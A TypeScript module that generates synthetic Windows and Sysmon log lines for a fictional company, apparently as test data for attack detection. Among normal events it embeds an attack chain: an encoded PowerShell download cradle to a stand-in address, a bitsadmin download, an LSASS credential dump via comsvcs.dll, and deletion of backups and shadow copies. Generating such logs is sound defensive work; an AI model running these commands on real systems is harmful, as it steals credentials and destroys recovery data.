/**
 * One afternoon of a fictional company as its log source sends it: normal work on a few machines, and among it an attack from the opened
 * attachment to the deleted copies. Names, addresses and deeds are made up; nothing harmful is in it.
 * @module
 */
const MINUTE_MS = 60_000
const SYSTEM32 = 'C:\\Windows\\System32'

type Fields = Readonly<Record<string, string | number>>

const line = (at: number, host: string, channel: string, eventId: number, fields: Fields): string =>
  JSON.stringify({
    '@timestamp': new Date(at).toISOString(),
    Hostname: host,
    Channel: channel,
    EventID: eventId,
    SourceName:
      channel === 'Security'
        ? 'Microsoft-Windows-Security-Auditing'
        : channel === 'System'
          ? 'Service Control Manager'
          : 'Microsoft-Windows-Sysmon',
    ...fields,
  })
const sysmon = 'Microsoft-Windows-Sysmon/Operational'

const ran = (at: number, host: string, user: string, parent: string, commandLine: string): string =>
  line(at, host, sysmon, 1, {
    Image: `${SYSTEM32}\\${/^\S+/.exec(commandLine)?.[0] ?? ''}`,
    CommandLine: commandLine,
    ParentImage: parent,
    User: `EXAMPLE\\${user}`,
    Message: `Process Create: ${commandLine}`,
  })

const WORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE'
const SHELL = `${SYSTEM32}\\cmd.exe`
/** What the launcher hides: a download from an address of documentation (RFC 5737). */
const HIDDEN = Buffer.from(
  "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.66/a')",
  'utf16le',
).toString('base64')

/** Minutes before the end, the machine, the person, the parent, what was run. */
const ATTACK: readonly (readonly [number, string, string, string, string])[] = [
  [182, 'SALES-PC03', 'hanako', WORD, `powershell.exe -NoP -W Hidden -Enc ${HIDDEN}`],
  [176, 'SALES-PC03', 'hanako', SHELL, 'net.exe group "Domain Admins" /domain'],
  [174, 'SALES-PC03', 'hanako', SHELL, 'net.exe localgroup Administrators'],
  [
    161,
    'SALES-PC03',
    'hanako',
    SHELL,
    'bitsadmin.exe /transfer job http://192.0.2.66/t.zip C:\\Users\\Public\\t.zip',
  ],
  [
    133,
    'SALES-PC03',
    'SYSTEM',
    SHELL,
    'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 640 C:\\Users\\Public\\l.dmp full',
  ],
  [52, 'HQ-FS01', 'backup-admin', SHELL, 'wbadmin.exe delete catalog -quiet'],
  [51, 'HQ-FS01', 'backup-admin', SHELL, 'vssadmin.exe delete shadows /all /quiet'],
  [50, 'HQ-FS01', 'backup-admin', SHELL, 'bcdedit.exe /set {default} recoveryenabled no'],
]

const MACHINES = ['SALES-PC03', 'KEIRI-PC01', 'HQ-FS01', 'HQ-AD01', 'DESIGN-PC07']
const PEOPLE = ['hanako', 'taro', 'keiri', 'svc-backup']
const WORK = ['excel.exe /e', 'chrome.exe', 'outlook.exe', 'svchost.exe -k netsvcs', 'robocopy.exe']

/** Records of 20 hours, the last at `now`, one JSON document per line. */
export const afternoon = (now: Date): string => {
  const end = now.getTime()
  const normal = Array.from({ length: 900 }, (_, n) => {
    // More by day than by night; no dice, so that the pictures stay alike.
    const back = ((n * 7919) % 1200) * ((n * 104_729) % 3 === 0 ? 1 : 0.45)
    const at = end - back * MINUTE_MS - (n % 60) * 1_000
    const [host = '', user = ''] = [MACHINES[n % 5], PEOPLE[(n * 3) % 4]]
    if (n % 3 === 0)
      return line(at, host, 'Security', 4624, {
        TargetUserName: user,
        LogonType: 3,
        IpAddress: `10.1.0.${20 + (n % 40)}`,
        Message: 'An account was successfully logged on.',
      })
    return ran(at, host, user, `${SYSTEM32}\\explorer.exe`, WORK[n % 5] ?? '')
  })
  const attack = ATTACK.map(([back, ...rest]) => ran(end - back * MINUTE_MS, ...rest))
  const more = [
    line(end - 60 * MINUTE_MS, 'HQ-FS01', 'System', 7045, {
      ServiceName: 'PSEXESVC',
      ImagePath: '%SystemRoot%\\PSEXESVC.exe',
      ServiceType: 'user mode service',
      StartType: 'demand start',
      Message: 'A service was installed in the system.',
    }),
    line(end - 48 * MINUTE_MS, 'HQ-FS01', 'Security', 1102, {
      SubjectUserName: 'backup-admin',
      Message: 'The audit log was cleared.',
    }),
  ]
  return [...normal, ...attack, ...more].join('\n')
}
